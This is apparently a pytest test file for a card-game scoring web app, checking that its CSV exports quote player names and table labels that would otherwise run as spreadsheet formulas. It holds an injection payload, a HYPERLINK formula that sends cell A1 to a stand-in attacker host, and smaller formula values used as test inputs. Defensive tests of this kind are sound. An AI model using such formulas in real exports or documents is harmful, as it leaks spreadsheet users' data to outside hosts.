"""CSV formula injection (issue 23 item 6): no cell of any export starts what a spreadsheet
would run as a formula (= + - @, tab, CR); a name like =HYPERLINK(…) is shown as text."""

from __future__ import annotations

import csv
import io

import pytest

from companion.web.downloads import csv_cell

EVIL = '=HYPERLINK("http://e.vil/?"&A1,"x")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def rwd(chips, tricks, **extra) -> dict:
    return {**{f"chips-{i}": str(c) for i, c in enumerate(chips)},
            **{f"tricks-{i}": str(t) for i, t in enumerate(tricks)}, **extra}


def cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert cell.lstrip("-").replace(".", "", 1).isdigit(), cell  # only a plain negative number


def table_with_names(client, names) -> str:
    response = client.post("/tables", data={"game": "rwd", "players": str(len(names)),
                                            **{f"name-{i}": n for i, n in enumerate(names)}})
    assert response.status_code == 303, response.get_data(as_text=True)[:300]
    return response.headers["Location"].rsplit("/", 1)[-1]


def test_the_table_csv_neutralises_a_name_that_is_a_formula(client):
    token = table_with_names(client, [EVIL, "@Bo", "+Cy"])
    # A shared win, so the next deal records its start player: the name itself is a cell.
    assert client.post(f"/t/{token}/deals", data=rwd([5, 5, 7], [7, 7, 3], number="1")).status_code == 303
    assert client.post(f"/t/{token}/deals",
                       data=rwd([0, 8, 9], [5, 6, 6], number="2", start_player="0")).status_code == 303
    rows = cells(client.get(f"/t/{token}/export.csv"))
    assert_no_formula(rows)
    start = rows[0].index("Start player")
    assert rows[2][start] == "'" + EVIL  # shown as the name, never run
    assert any(cell.startswith("-") for cell in rows[1] + rows[2])  # negative points stay numbers


def test_the_night_csv_neutralises_names_and_labels(client):
    token = table_with_names(client, [EVIL, "Bo", "Cy"])
    assert client.post(f"/t/{token}/deals", data=rwd([0, 8, 9], [5, 6, 6], number="1")).status_code == 303
    # A prepared table with the organiser's own label, seated and played.
    assert client.post("/hall/prepare", data={"game": "rwd", "players": "3", "count": "1",
                                              "label": "@SUM(1+1) {n}"}).status_code == 303
    prepared = [t for t in client.get("/hall/export.json").get_json()["tables"] if not t["seated"]][0]["token"]
    assert client.post(f"/t/{prepared}/players", data={"name-0": "Di", "name-1": "Ed", "name-2": "Fa"}).status_code == 303
    assert client.post(f"/t/{prepared}/deals", data=rwd([0, 8, 9], [5, 6, 6], number="1")).status_code == 303
    rows = cells(client.get("/hall/export.csv"))
    assert_no_formula(rows)
    # One row per player per deal (issue 25): the names are the player column's cells.
    table, player = rows[0].index("table"), rows[0].index("player")
    assert [row[player] for row in rows[1:]] == ["'" + EVIL, "Bo", "Cy", "Di", "Ed", "Fa"]
    # The table opened on the laptop first is the night's Table 1, so the prepared one is 2.
    assert [row[table] for row in rows[4:]] == ["'@SUM(1+1) 2"] * 3


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-12", "-12"), ("-1.5", "-1.5"), ("Ann", "Ann"), ("", ""), (7, "7"),
])
def test_a_cell_that_would_start_a_formula_gets_a_quote(value, shown):
    assert csv_cell(value) == shown
